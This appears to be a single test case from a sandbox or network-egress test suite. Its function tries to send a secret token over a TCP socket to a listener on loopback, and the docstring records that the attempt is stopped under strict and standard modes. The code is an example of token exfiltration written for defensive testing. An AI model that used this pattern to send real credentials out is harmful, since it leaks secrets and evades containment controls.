"""Sends the token to a TCP listener on loopback.

Seen: the token arrives at the listener.
Stopped at: strict, standard.
Verdict: raised.
"""
import socket


def attack():
    with socket.create_connection(("127.0.0.1", target.tcp), 2) as connection:
        connection.sendall(target.token)
